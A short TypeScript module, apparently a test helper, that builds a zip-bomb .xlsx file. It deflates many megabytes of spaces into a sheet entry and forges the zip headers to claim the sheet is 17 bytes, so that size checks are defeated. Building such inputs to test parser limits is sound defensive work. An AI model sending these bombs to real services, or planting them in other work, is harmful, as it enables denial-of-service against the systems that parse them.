import { constants, deflateRawSync } from 'node:zlib';
import { zipSync } from 'fflate';

const megabyte = 1024 * 1024;
const stored = 0;
const deflated = 8;

/** Half a megabyte of .xlsx whose sheet is that many megabytes of spaces, and says it is 17 bytes. */
export function aBomb(megabytes: number): Uint8Array {
  const one = deflateRawSync(Buffer.alloc(megabyte, ' '), {
    level: 9,
    finishFlush: constants.Z_FULL_FLUSH,
  });
  const end = Buffer.from([3, 0]);
  const sheet = Buffer.concat([...Array.from({ length: megabytes }, () => one), end]);
  const parts = {
    'xl/workbook.xml': Buffer.from('<workbook/>'),
    'xl/worksheets/sheet1.xml': sheet,
  };
  const bomb = Buffer.from(zipSync(parts, { level: stored }));
  // What is packed already is packed in as it is: here it is said that it is packed.
  bomb.writeUInt16LE(deflated, bomb.lastIndexOf(Buffer.from('504b0304', 'hex')) + 8);
  const entry = bomb.lastIndexOf(Buffer.from('504b0102', 'hex'));
  bomb.writeUInt16LE(deflated, entry + 10);
  bomb.writeUInt32LE(17, entry + 24);
  return bomb;
}
